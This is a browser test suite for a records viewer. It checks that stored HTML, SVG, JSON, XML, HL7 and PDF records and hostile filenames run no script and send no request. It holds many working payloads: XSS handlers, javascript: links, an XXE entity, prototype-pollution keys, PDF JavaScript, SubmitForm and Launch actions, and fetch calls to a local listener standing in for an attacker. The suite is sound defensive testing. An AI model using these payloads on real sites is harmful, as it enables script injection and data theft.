// Records that try: scripts, handlers, javascript: links, refreshes, pictures and forms elsewhere. Nothing of them runs,
// and no request leaves. A listener stands for "elsewhere"; that the same bytes do reach it, and run, when a browser is
// given them as a document is tested first.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { after, afterEach, test } from 'node:test';
import { setTimeout as pause } from 'node:timers/promises';
import { temporary, until } from './harness.js';
import { bench as makeBench, go, settled } from './records_shared.js';
import { actingPdf, objectStream, plainPdf } from './pdf.js';

let ann;
let elsewhere;
let address;
let reached = [];

const bench = makeBench(async ({ coffer }) => {
  ann = await coffer.account('ann', 'writer', 'auditor');
  elsewhere = http.createServer((request, response) => {
    reached.push(`${request.method} ${request.url}`);
    response.end();
  });
  await new Promise((resolve) => { elsewhere.listen(0, '127.0.0.1', resolve); });
  address = `http://127.0.0.1:${elsewhere.address().port}`;
});
after(() => {
  elsewhere?.closeAllConnections?.();
  elsewhere?.close();
});
afterEach(() => { reached = []; });

// What the records say: each leaves a trace in the window that it runs in, and calls elsewhere.
const script = () => `globalThis.ran = 1; fetch('${address}/script', {mode: 'no-cors'}); alert('ran');`;

const html = () => `<!doctype html><html><head><base href="${address}/"><meta http-equiv="refresh" content="1;url=${address}/refresh">
<link rel="stylesheet" href="${address}/style"><style>@import url("${address}/import"); body { background: url(${address}/background) }</style>
<script>${script()}</script><script src="${address}/script.js"></script></head><body onload="${script().replaceAll('"', '&quot;')}">
<img src="${address}/picture" onerror="${script()}"><a id="link" href="javascript:globalThis.ran=1">link</a>
<iframe src="${address}/frame" srcdoc="<script>parent.ran=1</script>"></iframe><object data="${address}/object"></object>
<form id="f" action="${address}/form" method="post"><input name="a" autofocus onfocus="globalThis.ran=1"></form>
<script>document.getElementById('f').submit()</script><svg onload="globalThis.ran=1"></svg></body></html>`;

const svg = () => `<?xml version="1.0"?><?xml-stylesheet href="${address}/sheet"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="30" onload="globalThis.ran=1">
<script>globalThis.ran=1; fetch('${address}/svg')</script><style>@import url(${address}/import); rect { fill: url(${address}/fill) }</style>
<image href="${address}/image" width="9" height="9"/><image xlink:href="${address}/xlink" width="9" height="9"/>
<use href="${address}/use#a"/><a href="javascript:globalThis.ran=1"><rect width="90" height="30"/></a>
<foreignObject width="90" height="30"><body xmlns="http://www.w3.org/1999/xhtml" onload="globalThis.ran=1"><img src="${address}/foreign" onerror="globalThis.ran=1"/>
<iframe src="${address}/inner"></iframe></body></foreignObject><animate attributeName="href" onbegin="globalThis.ran=1" dur="1s"/></svg>`;

const json = () => `{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}, "toString": "<img src=x onerror=globalThis.ran=1>",
"<script>globalThis.ran=1</script>": "</pre><script>globalThis.ran=1</script>", "javascript:globalThis.ran=1": "${address}/json", "\\u003cimg src=${address}/key\\u003e": 1}`;

const xml = () => `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${address}/xsl"?><!DOCTYPE a [<!ENTITY x SYSTEM "${address}/entity">]>
<a xmlns:h="http://www.w3.org/1999/xhtml">&x;<h:script>globalThis.ran=1</h:script><h:img src="${address}/xml" onerror="globalThis.ran=1"/></a>`;

const hl7 = () => `MSH|^~\\&|<script>globalThis.ran=1</script>|B\rPID|1||<img src=${address}/pid onerror=globalThis.ran=1>\rOBX|1|ED|||<svg onload=globalThis.ran=1>\r`;

// Opened, looked at, clicked on: and nothing has happened.
async function assertNothing(page, what) {
  const told = await page.evaluate(() => ({
    ran: [globalThis.ran, ...[...document.querySelectorAll('iframe')].map((frame) => frame.contentWindow?.ran)].filter(Boolean).length,
    polluted: ({}).polluted !== undefined,
    alive: document.querySelectorAll('.contents :is(script, iframe, object, embed, form, style, link, base, meta, svg, video, audio)').length,
    links: [...document.querySelectorAll('main a')].map((link) => link.href).filter((href) => !/^(https:|blob:)/.test(href)),
    here: location.origin,
  }));
  assert.deepEqual(told, { ran: 0, polluted: false, alive: 0, links: [], here: bench.coffer.origin }, what);
  assert.deepEqual(reached, [], what);
}

test('a browser that is given these as documents runs them, and goes elsewhere', async () => {
  const folder = temporary('control');
  const page = await bench.profile.context.newPage();
  const dialogs = [];
  // The page goes elsewhere meanwhile, and its dialog with it.
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    dialog.dismiss().catch(() => {});
  });
  // Where it has left before the dialog was shown, none comes: once more.
  for (let round = 0; round < 10 && !dialogs.includes('ran'); round += 1) {
    for (const [name, content] of [['a.html', html()], ['a.svg', svg()]]) {
      reached = [];
      fs.writeFileSync(path.join(folder, name), content);
      await page.goto(`file://${path.join(folder, name)}`, { waitUntil: 'commit' });
      await until(() => reached.length > 0, `${name} to go elsewhere`);
    }
  }
  await until(() => dialogs.includes('ran'), 'the script to run');
  await page.close();
  // What it asked for at the end still arrives, and is not to pass for the next test's.
  for (let seen = -1; seen !== reached.length;) {
    seen = reached.length;
    await pause(500);
  }
  fs.rmSync(folder, { recursive: true, force: true });
});

test('hostile records of every kind, under their own type and under others, run nothing', async () => {
  const page = await bench.view('/records', ann);
  const dialogs = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    dialog.dismiss();
  });
  const contents = { html: html(), svg: svg(), json: json(), xml: xml(), hl7: hl7() };
  const types = ['text/html', 'image/svg+xml', 'application/json', 'application/xhtml+xml', 'x-application/hl7-v2+er7', 'text/plain',
    'image/png', 'application/pdf', 'text/javascript', 'application/octet-stream', 'text/html; charset=utf-7', 'application/xslt+xml'];
  for (const [name, content] of Object.entries(contents)) {
    for (const type of types) {
      const id = await bench.store(ann, content, type, { 'Coffer-Labels': '<img src=x onerror=globalThis.ran=1>' });
      await go(page, `/records/${id}`);
      await page.getByText('These bytes have it').waitFor();
      const drawn = page.locator('canvas');
      if (await drawn.count() > 0 && name === 'svg') await page.locator('canvas[data-drawn]').waitFor();
      for (const button of await page.locator('.contents button').all()) if (await button.isVisible()) await button.click();
      for (const summary of await page.locator('.contents summary').all()) await summary.click();
      await assertNothing(page, `${name} as ${type}`);
    }
  }
  assert.deepEqual(dialogs, []);
  assert.equal(page.context().pages().filter((other) => other.url().startsWith('blob:')).length, 0);
});

test('hostile PDFs are not opened, wherever they hide what they do', async () => {
  const page = await bench.view('/records', ann);
  const alert = "<</S/JavaScript/JS(app.alert\\('ran'\\);this.submitForm\\('http://127.0.0.1/'\\))>>";
  const hidden = `5 0 ${alert}`;
  const cases = {
    pdfActive: [actingPdf(alert), actingPdf(`<</S/SubmitForm/F(${address}/pdf)>>`), actingPdf(alert.replace('JavaScript', 'J#61vaScript')),
      plainPdf('', objectStream(hidden)), actingPdf(`<</S/Launch/F(${address}/launch)>>`)],
    pdfUnknown: [plainPdf('', objectStream(hidden, { filter: '/Filter/LZWDecode' })), Buffer.from(html())],
  };
  const words = { pdfActive: 'This PDF has scripts or other actions in it', pdfUnknown: 'This PDF could not be searched' };
  for (const [verdict, pdfs] of Object.entries(cases)) {
    for (const bytes of pdfs) {
      const id = await bench.store(ann, bytes, 'application/pdf');
      await go(page, `/records/${id}`);
      await page.getByText(words[verdict]).waitFor();
      assert.equal(await page.getByRole('link', { name: 'Open in a new tab' }).count(), 0);
      await assertNothing(page, verdict);
    }
  }
});

test('names of files and media types are text', async () => {
  const folder = temporary('names');
  const page = await bench.view('/records', ann);
  const name = '<img src=x onerror=globalThis.ran=1>.txt';
  fs.writeFileSync(path.join(folder, name), 'x');
  await page.locator('input[type=file]').setInputFiles(path.join(folder, name));
  await page.getByText(name, { exact: true }).waitFor();
  await page.getByLabel('Media type').fill('text/plain;a="<script>globalThis.ran=1</script>"');
  await page.getByRole('button', { name: 'Store 1 file' }).click();
  await page.getByRole('link', { name: /Open the record/ }).click();
  await settled(page);
  await page.getByText('text/plain;a="<script>globalThis.ran=1</script>"').waitFor();
  await assertNothing(page, 'names');
  fs.rmSync(folder, { recursive: true, force: true });
});

test('what is downloaded is saved, not shown, whatever type it has', async () => {
  const id = await bench.store(ann, html(), 'text/html');
  const page = await bench.view(`/records/${id}`, ann);
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download', exact: true }).click()]);
  assert.equal(fs.readFileSync(await download.path(), 'utf8'), html());
  await assertNothing(page, 'download');
});

test('the policy stops what the code would have let through', async () => {
  const page = await bench.view('/records', ann);
  page.watch.faults = [];
  const outcome = await page.evaluate(async (there) => {
    const told = {};
    const attempt = (name, act) => {
      try {
        act();
        told[name] = 'done';
      } catch (error) {
        told[name] = error.name;
      }
    };
    attempt('html', () => { document.createElement('div').innerHTML = '<b>x</b>'; });
    attempt('write', () => document.write('x'));
    attempt('script', () => { document.createElement('script').text = 'globalThis.ran = 1'; });
    told.fetch = await fetch(`${there}/policy`, { mode: 'no-cors' }).then(() => 'done', (error) => error.name);
    const picture = new Image();
    told.picture = await new Promise((resolve) => {
      picture.onload = () => resolve('done');
      picture.onerror = () => resolve('refused');
      picture.src = `${there}/policy`;
    });
    return told;
  }, address);
  assert.deepEqual(outcome, { html: 'TypeError', write: 'TypeError', script: 'TypeError', fetch: 'TypeError', picture: 'refused' });
  assert.deepEqual(reached, []);
  assert.ok(page.watch.faults.length > 0);
  page.watch.faults = [];
});
